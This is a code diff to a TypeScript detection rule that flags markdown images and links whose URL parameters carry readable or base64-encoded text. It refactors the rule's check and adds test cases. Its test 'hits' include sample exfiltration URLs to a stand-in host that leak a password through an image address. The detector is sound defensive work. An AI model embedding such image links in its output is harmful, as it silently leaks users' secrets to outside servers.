@@ -1,24 +1,26 @@
 import type { RuleMatch, RuleSpec } from "../../src/contracts/rule.ts";
-import { around, unlessMentioned } from "./mention.ts";
+import { around, before, unlessMentioned } from "./mention.ts";
 
 /** Sites that are asked by words in their addresses, and those that draw what stands in it. */
 const askedByAddress =
   /\/\/(?:[\w-]{1,40}\.){0,3}(?:google|bing|duckduckgo|wikipedia|github|githubusercontent|youtube|stackoverflow|shields|quickchart|image-charts|googleapis|qrserver|codecogs|plantuml|kroki|mermaid|openstreetmap|twitter|x|facebook|linkedin|wa|reddit|amazon)\.(?:com|org|net|io|me)[/:?]|^\S{0,8}https?:\/\/localhost/iu;
 
-/** Whether a parameter of an address is text that somebody can read, plain or in base64. */
+/** The address of a picture, up to where one of its parameters begins. */
+const ofPicture = /(?:!\[[^\]\n]{0,80}\]\(|src=["'])\S{0,200}$/u;
+
+/** Whether a parameter of an address is text that somebody can read, plain or in base64. The match is its value. */
 function carriesText(match: RuleMatch): number {
-  const whole = match.text.slice(Math.max(0, match.start - 220), match.end);
-  const address = whole.slice(Math.max(whole.lastIndexOf("]("), whole.lastIndexOf("]: "), whole.lastIndexOf("src=")));
+  const lead = before(match, 280);
+  const address = lead.slice(Math.max(lead.lastIndexOf("]("), lead.lastIndexOf("]: "), lead.lastIndexOf("src=")));
   if (askedByAddress.test(address)) return 0;
-  const value = match.text.slice(match.start, match.end).replace(/^[^=]{0,300}=/u, "");
-  const said = readable(value) ?? readable(fromBase64(value)) ?? "";
-  const words = said.split(/[^\p{L}\p{N}@.]+/u).filter((word) => /^\p{L}{2,}/u.test(word)).length;
-  const isPicture = address.startsWith("![") || address.startsWith("src=") || whole.includes("![");
-  const isEncoded = readable(value)?.replace(/\S/gu, "") === undefined;
+  const value = match.text.slice(match.start, match.end);
+  if (wordsIn(readable(fromBase64(value))) >= 3) return 1;
   // Plain words in a link are what somebody fills a form with; in a picture a few are a caption.
-  if (!isEncoded && !isPicture) return 0;
-  return words >= (isEncoded ? 3 : 5) ? 1 : 0;
+  return ofPicture.test(lead) && wordsIn(readable(value)) >= 5 ? 1 : 0;
 }
+
+const wordsIn = (text = ""): number =>
+  text.split(/[^\p{L}\p{N}@.]+/u).filter((word) => /^\p{L}{2,}/u.test(word)).length;
 
 /** A text of printable characters with its %xx and + read; undefined where it is none. */
 function readable(text: string): string | undefined {
@@ -51,8 +53,15 @@ export const exfiltrationAddressRules: readonly RuleSpec[] = [
     points: 0.7,
     what: "an image or link whose address carries text",
     why: "Readable text in a parameter, plain or in base64, is gone once the address is fetched. Links fill in forms with plain words, so those count in pictures alone.",
-    hits: ["![x](https://c.example/p.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIh)"],
-    misses: ["![x](https://images.example/photo-150?ixlib=rb-4.0.3&q=80)"],
+    hits: [
+      "![x](https://c.example/p.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIh)",
+      "[x](https://c.example/p?a=1&d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=)",
+      "![x](https://c.example/p.png?d=the+password+of+the+vault+is+hunter2)",
+    ],
+    misses: [
+      "![x](https://images.example/photo-150?ixlib=rb-4.0.3&q=80)",
+      "![logo](https://a.example/l.png) and [report](https://jira.example/new?summary=Login+page+fails+for+new+users)",
+    ],
     confirm: carriesText,
   },
   {
